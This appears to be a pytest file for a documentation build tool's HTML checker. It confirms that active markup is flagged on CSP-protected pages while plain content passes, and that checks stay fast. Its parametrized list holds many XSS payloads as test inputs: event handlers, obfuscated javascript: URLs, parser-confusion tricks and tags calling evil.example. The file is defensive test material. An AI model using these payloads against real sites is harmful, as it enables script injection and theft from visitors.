"""The build's own look at every finished page: what acts is found, however it is written; what shows words is not."""

import time
from pathlib import Path

import pytest
from building import new_project, run

from policydoc.outputs import page_check

POLICY_OF_PAGES = "default-src 'none'"
HEAD = f'<!doctype html>\n<html lang="en"><head><meta http-equiv="Content-Security-Policy" content="{POLICY_OF_PAGES}">'


def faults(body: str) -> list[str]:
    return page_check.faults(f"{HEAD}<title>A page</title></head><body>{body}</body></html>", POLICY_OF_PAGES)


@pytest.mark.parametrize(
    "body",
    [
        "<meta http-equiv=refresh content=0;url=/about/>",
        "<META\nHTTP-EQUIV='Refresh' content='0'>",
        '<meta http-equiv="Content-Security-Policy" content="default-src *">',
        "<base href=/elsewhere/>",
        "<iframe src=page.html></iframe>",
        "<iframe srcdoc='&lt;script>'></iframe>",
        "<frameset><frame src=a></frameset>",
        "<object data=a.svg></object>",
        "<embed src=a.swf>",
        "<applet code=a>",
        "<portal src=a></portal>",
        "<template><p>a</p></template>",
        "<noscript><p>a</p></noscript>",
        "<textarea><p></textarea>",
        "<plaintext>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mi href=javascript:1>a</mi></math>",
        "<form action=https://evil.example><input name=a></form>",
        "<button formaction=/a>a</button>",
        "<img src=a.png onerror=alert(1)>",
        "<img src=a.png OnError='alert(1)'>",
        '<img src="a.png"onerror="alert(1)">',
        "<p\nonclick\n=\nalert(1)>a</p>",
        "<p/onclick=alert(1)>a</p>",
        "<p style='color: red'>a</p>",
        "<STYLE>p { color: red }</STYLE>",
        "<script>alert(1)</script>",
        "<script src=a.js>alert(1)</script>",
        "<script src=https://evil.example/a.js></script>",
        "<script src=//evil.example/a.js></script>",
        '<script type="application/ld+json">{"a": "</script><script>alert(1)</script>',
        "<link rel=stylesheet href=https://evil.example/a.css>",
        "<link rel=prerender href=/a>",
        "<link rel='stylesheet import' href=a>",
        "<a href=javascript:alert(1)>a</a>",
        "<a href=' JaVaScRiPt:alert(1)'>a</a>",
        "<a href='&#1;java&#10;script&colon;alert(1)'>a</a>",
        "<a href=data:text/html,a>a</a>",
        "<a href=vbscript:a>a</a>",
        "<a href=/a ping=https://evil.example>a</a>",
        "<img src=https://evil.example/a.png alt=a>",
        "<img src='data:text/html,a' alt=a>",
        "<img srcset='a.png 1x, //evil.example/a.png 2x' alt=a>",
        "<video src=a.mp4></video>",
        # What browsers read otherwise than it looks
        '<p a"><img src=x onerror=alert(1)>">a</p>',
        '<p\x0bclass="><img src=x onerror=alert(1)>">a</p>',
        "<p title=\"a'><img src=x onerror=alert(1)>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!--a--!><img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?php <img src=x onerror=alert(1)> ?>",
        "</ <img src=x onerror=alert(1)>",
        "<p title=<p><img src=x onerror=alert(1)>",
        "<title><!--</title><script>alert(1)</script>-->",
        "<p title='a",
    ],
)
def test_what_acts_is_found(body: str) -> None:
    assert len(faults(body)) >= 1
    assert all(fault.count("\n") == 0 and len(fault) < 240 for fault in faults(body))


@pytest.mark.parametrize(
    "body",
    [
        "<p>Fish &amp; chips &lt;b&gt; 'quoted' \"too\" > none</p>",
        "<div class=note id='a' hidden><P>Old</P><br><br/><hr /></div>",
        '<div class="grid" markdown="1"><p align=center>a</p></div>',
        "<a href=https://example.org/?a=b&c=d target=_blank rel='noopener'>a</a><a href=../reading/#a>b</a>",
        "<a href='mailto:a@example.org'>a</a><a href=tel:+441722342860>b</a><a href=//example.org/>c</a>",
        "<img src=images/a.png alt='A chart' width=20 loading=lazy><img src='data:image/png;base64,AA==' alt=''>",
        "<details open><summary>More</summary><table><caption>a</caption><tr><th scope=row>a</table></details>",
        "<dl><dt>a</dt><dd>b</dd></dl><ol start=3 type=a><li value=4>a</li></ol><pre><code>&lt;script&gt;</code></pre>",
        "<figure><img src=a.png alt=a><figcaption>a</figcaption></figure><blockquote cite=https://a.org>a</blockquote>",
        "<!-- a comment - with <b>words</b> in it -->",
        '<script type="application/ld+json">{"a": "\\u003c/script"}</script><script src="a.js" defer></script>',
    ],
)  # fmt: skip
def test_what_only_shows_words_is_let_through(body: str) -> None:
    assert faults(body) == []


def test_a_page_without_a_security_policy_is_found() -> None:
    comment = f"<!-- {HEAD} -->"
    for html in ("<!doctype html>\n<html><body></body></html>", f"<!doctype html>\n<html>{comment}</html>"):
        assert [fault for fault in page_check.faults(html, POLICY_OF_PAGES) if "no Content-Security-Policy" in fault]


def test_all_that_acts_on_hand_written_pages_is_said_at_once_and_nothing_published(tmp_path: Path) -> None:
    project = new_project(tmp_path / "project")
    for name, words in (("about", "<iframe src=map.html></iframe>"), ("reading", "<p onclick=alert(1)>Words</p>")):
        page = project / f"docs/{name}.md"
        page.write_text(f"{page.read_text('utf-8')}\n\n{words}\n", "utf-8")
    mkdocs = project / "mkdocs.yml"
    mkdocs.write_text(mkdocs.read_text("utf-8").replace("nav:\n", "nav:\n  - Home: javascript:alert(1)\n"), "utf-8")
    done = run(project, "build", POLICY_PDF="off")
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert "about.md: <iframe src=map.html> is not used on these pages. Use text, pictures" in done.stderr
    assert "reading.md: browsers ignore onclick= in <p onclick=alert(1)>. Put scripts" in done.stderr
    assert done.stderr.count("javascript:alert(1) is no web address. Begin it with https:") == 1
    assert not (project / "site").exists() or not list((project / "site").iterdir())


@pytest.mark.parametrize("sign", ["<", "<p ", "<p a='", '<p a="b"', "<!--", "<!-- -", "<title>", "<p" + " a" * 9, "</"])
def test_the_check_is_quick_whatever_it_reads(sign: str) -> None:
    start = time.process_time()
    faults(sign * 100_000)
    assert time.process_time() - start < 5
